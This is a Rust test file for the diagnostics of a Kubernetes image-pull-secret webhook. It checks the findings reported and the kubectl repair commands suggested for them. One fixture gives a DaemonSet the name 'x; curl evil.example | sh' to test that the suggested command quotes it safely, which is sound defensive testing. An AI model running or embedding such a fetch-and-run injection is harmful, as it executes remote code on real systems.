//! Findings that no test cluster can cause, and what the document says of all.

use std::collections::{BTreeMap, BTreeSet};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use pullgate::certs::{authority, leaf, read as read_certificates};
use pullgate::controller::credentials::Digest;
use pullgate::doctor::examine;
use pullgate::doctor::finding::Severity;
use pullgate::doctor::seen::{Copies, Copy, Distribution, Issuer, Seen};
use pullgate::names::Names;
use serde_json::{Value, json};
use time::{Duration, OffsetDateTime};

use crate::docs::{code, read, root, tables};

fn checks(seen: &Seen) -> Vec<(&'static str, Severity)> {
    examine(seen).findings.iter().map(|finding| (finding.check, finding.severity)).collect()
}

fn registered(webhooks: &Value) -> Value {
    json!({"metadata": {"name": "pullgate"}, "webhooks": webhooks})
}

#[test]
fn every_check_is_documented_with_how_bad_it_is() {
    let mut known = BTreeSet::new();
    for entry in std::fs::read_dir(root().join("src/doctor")).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        let product = text.split("#[cfg(test)]").next().unwrap().replace(char::is_whitespace, "");
        known.extend(
            product.split("report.add(\"").skip(1).map(|rest| rest.split('"').next().unwrap().to_owned()),
        );
    }
    let text = read("docs/doctor.md");
    let (_, rows) = tables(&text, "| check | severity |").remove(0);
    let documented: BTreeSet<_> = rows.iter().map(|row| code(row[0]).to_owned()).collect();
    assert_eq!(documented, known);
    assert!(known.len() > 15);
}

#[test]
fn an_api_server_that_is_too_old_is_told() {
    for (version, expected) in
        [("v1.29.4", true), ("v1.30.0", false), ("v1.36.3+k3s1", false), ("v2.0.0", false), ("odd", false)]
    {
        let seen = Seen {
            server: version.to_owned(),
            registration: Some(registered(&json!([{}]))),
            ..Seen::default()
        };
        assert_eq!(checks(&seen).contains(&("versions", Severity::Error)), expected, "{version}");
    }
}

#[test]
fn a_rollout_that_is_not_done_is_told() {
    let deployment = |generation, observed, updated| {
        Some(json!({
            "metadata": {"name": "pullgate", "namespace": "pullgate", "generation": generation},
            "spec": {"replicas": 2}, "status": {"observedGeneration": observed, "updatedReplicas": updated},
        }))
    };
    for (webhook, expected) in
        [(deployment(2, 2, 2), false), (deployment(3, 2, 2), true), (deployment(2, 2, 1), true)]
    {
        let seen = Seen { webhook, ..Seen::default() };
        assert_eq!(checks(&seen).contains(&("versions", Severity::Warning)), expected);
    }
}

#[test]
fn workloads_are_named_by_what_can_be_restarted_and_counted_where_they_are_many() {
    let owner = |kind: &str, name: &str| json!([{"kind": kind, "name": name, "controller": true}]);
    let pod = |name: String, owners: Value| {
        json!({
            "metadata": {
                "namespace": "shop", "name": name, "creationTimestamp": "2026-01-01T00:00:00Z",
                "labels": {"pod-template-hash": "5d4f"}, "ownerReferences": owners,
            },
            "spec": {
                "initContainers": [{"image": "busybox"}],
                "volumes": [{"image": {"reference": "model:1"}}],
            },
        })
    };
    let mut pods = vec![
        pod("web-5d4f-abc".to_owned(), owner("ReplicaSet", "web-5d4f")),
        pod("web-5d4f-def".to_owned(), owner("ReplicaSet", "web-5d4f")),
        pod("db-0".to_owned(), owner("StatefulSet", "db")),
        pod("once-x".to_owned(), owner("Job", "once")),
        pod("hostile-1".to_owned(), owner("DaemonSet", "x; curl evil.example | sh")),
    ];
    pods.extend((0..30).map(|number| pod(format!("bare-{number:02}"), json!([]))));
    let (policy, _) = pullgate::config::load_policy([("REGISTRY".into(), "r.example".into())]).unwrap();
    let webhook = json!({
        "name": "pods", "rules": [{"apiGroups": [""], "operations": ["CREATE"], "resources": ["pods"]}],
        "failurePolicy": "Fail",
    });
    let registration = Some(json!({
        "metadata": {"name": "pullgate", "creationTimestamp": "2026-01-02T00:00:00Z"}, "webhooks": [webhook],
    }));
    let seen = Seen { policy: Some(Ok(policy)), registration, pods, ..Seen::default() };
    let report = examine(&seen);
    let escaped: Vec<_> = report.findings.iter().filter(|finding| finding.check == "escaped").collect();
    assert_eq!(escaped.len(), 21);
    assert!(escaped[20].problem.starts_with("and 14 more workloads"), "{}", escaped[20].problem);
    let mend = |title: &str| {
        let found = escaped.iter().find(|finding| finding.problem.starts_with(title));
        found.map_or("", |finding| finding.mend.as_str())
    };
    assert_eq!(
        mend("Deployment shop/web: 4 images"),
        "kubectl --namespace shop rollout restart deployment/web"
    );
    assert_eq!(mend("Job shop/once: 2 images"), "kubectl --namespace shop delete pod once-x");
    assert_eq!(
        mend("DaemonSet shop/x; curl"),
        "kubectl --namespace shop rollout restart 'daemonset/x; curl evil.example | sh'"
    );
    assert!(mend("Pod shop/bare-00: 2 images").ends_with("kubectl replace --force -f -"));
}

const NOW: i64 = 1_800_000_000;
const DAY: i64 = 86_400;

/// An installation that serves a certificate of its authority, of which each is valid for so many days from some day on.
fn certified(authority_days: (i64, i64), days: (i64, i64)) -> Seen {
    let at = |day: i64| OffsetDateTime::from_unix_timestamp(NOW + day * DAY).unwrap();
    let ca = authority("ca", at(authority_days.0), Duration::days(authority_days.1)).unwrap();
    let pair = leaf(&ca, &["pullgate.pullgate.svc".to_owned()], at(days.0), Duration::days(days.1)).unwrap();
    let webhook = json!({
        "name": "pods.pullgate.svc",
        "clientConfig": {
            "service": {"name": "pullgate", "namespace": "pullgate"}, "caBundle": STANDARD.encode(&ca.certificate),
        },
    });
    Seen {
        namespace: "pullgate".to_owned(),
        now: NOW,
        registration: Some(registered(&json!([webhook]))),
        webhook: Some(json!({})),
        serving: read_certificates(pair.certificate.as_bytes()),
        ..Seen::default()
    }
}

fn mends(seen: &Seen, check: &str) -> Vec<String> {
    let findings = examine(seen).findings.into_iter().filter(|finding| finding.check == check);
    findings.map(|finding| finding.mend).collect()
}

const LOG: &str =
    "kubectl --namespace pullgate logs --selector app.kubernetes.io/component=controller --tail=50";

#[test]
fn a_certificate_is_renewed_by_who_issues_it() {
    let by = [Issuer::Script, Issuer::CertManager, Issuer::Controller, Issuer::Signer];
    assert!(
        by.map(|issuer| Seen { issuer, ..certified((0, 100), (0, 50)) })
            .iter()
            .all(|seen| { mends(seen, "expiry").is_empty() && mends(seen, "ca-bundle").is_empty() })
    );
    let script = "deployment/generate-certs-and-config.sh";
    for (authority_days, days, expected) in [
        // The certificate is over.
        (
            (-100, 200),
            (-50, 49),
            [
                &*format!("{script} --renew … && kubectl apply -f generated/ # with all settings"),
                "cmctl renew --namespace pullgate pullgate-tls",
                LOG,
                "kubectl get certificatesigningrequests",
            ],
        ),
        // Its authority is, and so is it.
        (
            (-100, 200),
            (-99, 98),
            [
                &format!("{script} --renew … && kubectl apply -f generated/ # with all settings"),
                "cmctl renew --namespace pullgate pullgate-tls",
                LOG,
                "kubectl get certificatesigningrequests",
            ],
        ),
    ] {
        for (issuer, expected) in by.into_iter().zip(expected) {
            let seen = Seen { issuer, ..certified(authority_days, days) };
            assert_eq!(mends(&seen, "expiry"), [expected], "{issuer:?}");
        }
    }
    for (issuer, expected) in by.into_iter().zip([
        &*format!("{script} --renew-ca … && kubectl apply -f generated/ # with all settings"),
        "cmctl renew --namespace pullgate --all",
        LOG,
        LOG,
    ]) {
        // What an authority signs does not outlive it, but for what others have signed.
        let (old, new) = (certified((-100, 99), (-50, 49)), certified((0, 100), (0, 50)));
        let seen = Seen { issuer, serving: new.serving, ..old };
        assert_eq!(mends(&seen, "expiry"), [expected], "{issuer:?}");
        assert_eq!(mends(&seen, "ca-bundle"), Vec::<String>::new());
    }
}

#[test]
fn a_key_that_is_not_the_certificates_is_told() {
    let mut seen = certified((0, 100), (0, 50));
    assert_eq!(mends(&seen, "certificate"), Vec::<String>::new());
    seen.has_another_key = true;
    assert_eq!(mends(&seen, "certificate"), ["kubectl apply -f generated/"]);
    // Whose manifests come from kustomize.
    seen.webhook =
        Some(json!({"spec": {"template": {"spec": {"containers": [{"envFrom": [{"configMapRef": {}}]}]}}}}));
    assert_eq!(mends(&seen, "certificate"), ["kubectl apply --kustomize ."]);
    seen.issuer = Issuer::Signer;
    assert_eq!(mends(&seen, "certificate"), ["kubectl get certificatesigningrequests"]);
}

/// Neither the script nor anybody else here makes the pair of a chart or of kustomize that was told to take one.
#[test]
fn a_pair_of_somebody_else_is_replaced_where_it_is() {
    let mut seen = Seen { issuer: Issuer::Other, ..certified((-100, 200), (-50, 49)) };
    seen.mounted.secret = "own-tls".to_owned();
    seen.webhook = Some(json!({"metadata": {"annotations": {"meta.helm.sh/release-name": "gate"}}}));
    let put = "kubectl --namespace pullgate create secret generic own-tls --from-file=webhook-server-tls.crt=… \
               --from-file=webhook-server-tls.key=… --dry-run=client -o yaml | kubectl apply -f -";
    assert_eq!(mends(&seen, "expiry"), [put]);
    seen.has_another_key = true;
    assert_eq!(mends(&seen, "certificate"), [put]);
    seen.serving.clear();
    let found = examine(&seen).findings;
    let problem = "Secret pullgate/own-tls has no certificate in webhook-server-tls.crt: nothing is served";
    assert!(found.iter().any(|it| it.problem == problem && it.mend == put), "{found:?}");
    let over = certified((-100, 99), (-50, 49));
    seen = Seen { issuer: Issuer::Other, serving: certified((0, 100), (0, 50)).serving, ..over };
    assert_eq!(mends(&seen, "expiry"), ["kubectl apply -f generated/ # with another CA"]);
}

#[test]
fn resources_that_the_controller_may_not_list_are_left_to_somebody_else() {
    let seen = Seen { leaves_resources: true, namespace: "pullgate".to_owned(), ..Seen::default() };
    let found = examine(&seen).findings.into_iter().find(|it| it.check == "resources").unwrap();
    assert_eq!((found.severity, found.mend.as_str()), (Severity::Info, "kubectl get imagepullsecrets"));
}

#[test]
fn of_many_secrets_of_somebody_else_some_are_named_and_the_others_counted() {
    let names: Vec<_> = (10..35).map(|n| format!("team-{n}")).collect();
    let theirs = Copy { content: Digest::of(b"two"), is_ours: false };
    let seen = Seen {
        distribution: Some(Distribution {
            secret: "regcred".to_owned(),
            source: ("pullgate".to_owned(), "regcred".to_owned()),
            has_others: false,
            overwrites: false,
            excluded: BTreeSet::new(),
            accounts: Names::patterns(["default"]),
        }),
        copies: Some(Copies {
            source: Some(Digest::of(b"one")),
            by_namespace: names.iter().map(|name| (name.clone(), theirs.clone())).collect(),
        }),
        namespaces: names.iter().map(|name| named(name)).collect(),
        ..Seen::default()
    };
    let found = examine(&seen).findings;
    let mut left = found.iter().filter(|it| it.check == "copies");
    assert_eq!(left.clone().count(), 21);
    assert!(left.any(|it| it.problem == "and 5 more Secrets likewise"), "{found:?}");
}

#[test]
fn where_pullgate_is_instead_is_told() {
    let seen = Seen { webhook: None, namespace: "elsewhere".to_owned(), ..certified((0, 100), (0, 50)) };
    assert_eq!(mends(&seen, "endpoints"), ["pullgate doctor --namespace pullgate"]);
}

fn named(name: &str) -> Value {
    json!({"metadata": {"name": name, "labels": {"kubernetes.io/metadata.name": name}}})
}

#[test]
fn accounts_are_those_that_the_webhook_is_called_for() {
    let settings = [("CONFIG_TARGET_IMAGE_PULL_SECRET_NAME".into(), "regcred".into())];
    let (policy, _) = pullgate::config::load_policy(settings).unwrap();
    let webhook = json!({
        "name": "accounts", "rules": [{"apiGroups": [""], "operations": ["CREATE"], "resources": ["serviceaccounts"]}],
        "namespaceSelector": {"matchExpressions": [
            {"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["pullgate"]},
        ]},
    });
    let account = |namespace: &str| json!({"metadata": {"namespace": namespace, "name": "default"}});
    let seen = Seen {
        policy: Some(Ok(policy)),
        registration: Some(registered(&json!([webhook]))),
        namespaces: vec![named("pullgate"), named("shop")],
        accounts: vec![account("pullgate"), account("shop")],
        ..Seen::default()
    };
    let found = mends(&seen, "accounts");
    assert_eq!(found.len(), 1);
    assert!(found[0].starts_with("kubectl --namespace shop patch serviceaccount default "), "{found:?}");
}

#[test]
fn what_is_somebody_elses_or_comes_from_a_file_is_judged_by_the_settings() {
    let distribution = |has_others, overwrites| Distribution {
        secret: "regcred".to_owned(),
        source: ("pullgate".to_owned(), "regcred".to_owned()),
        has_others,
        overwrites,
        excluded: BTreeSet::new(),
        accounts: Names::patterns(["default"]),
    };
    let copy = |content: &[u8], is_ours| Copy { content: Digest::of(content), is_ours };
    let (ours, theirs) = (copy(b"one", true), copy(b"two", false));
    let account = |namespace: &str| json!({"metadata": {"namespace": namespace, "name": "default"}});
    for (source, has_others, overwrites, expected) in [
        // A Secret of somebody else is overwritten, or left alone with all that goes with it.
        (Some(b"one"), false, true, vec![("accounts", 2), ("copies", 2)]),
        (Some(b"one"), false, false, vec![("accounts", 1), ("copies", 2)]),
        // Nobody but the controller knows what is right.
        (None, true, true, vec![("accounts", 2), ("copies", 1)]),
        (None, false, true, vec![("accounts", 2), ("source", 1)]),
    ] {
        let by_namespace = [("shop".to_owned(), ours.clone()), ("team".to_owned(), theirs.clone())];
        let seen = Seen {
            distribution: Some(distribution(has_others, overwrites)),
            copies: Some(Copies {
                source: source.map(|content: &[u8; 3]| Digest::of(content)),
                by_namespace: by_namespace.into_iter().collect(),
            }),
            namespaces: vec![named("shop"), named("team"), named("without")],
            accounts: vec![account("shop"), account("team")],
            ..Seen::default()
        };
        let report = examine(&seen);
        let mut counts = BTreeMap::new();
        // There is neither webhook nor registration, which is told as well.
        let about = |check: &str| matches!(check, "accounts" | "copies" | "source");
        for finding in report.findings.iter().filter(|finding| about(finding.check)) {
            *counts.entry(finding.check).or_insert(0) += 1;
            let left = finding.problem.contains("somebody else's");
            assert_eq!(left, finding.severity == Severity::Info, "{}", finding.problem);
        }
        assert_eq!(counts.into_iter().collect::<Vec<_>>(), expected);
    }
}

#[test]
fn a_replica_with_two_addresses_is_one() {
    let slice = |family: &str| json!({"addressType": family, "endpoints": [{"conditions": {"ready": true}}]});
    for (slices, expected) in [
        (vec![slice("IPv4"), slice("IPv6")], true),
        (vec![slice("IPv4"), slice("IPv4")], false),
        (vec![slice("IPv4"), slice("IPv4"), slice("IPv6")], false),
    ] {
        let webhook = Some(json!({"spec": {"replicas": 2}}));
        let seen = Seen { webhook, slices, ..Seen::default() };
        assert_eq!(checks(&seen).contains(&("endpoints", Severity::Warning)), expected);
    }
}
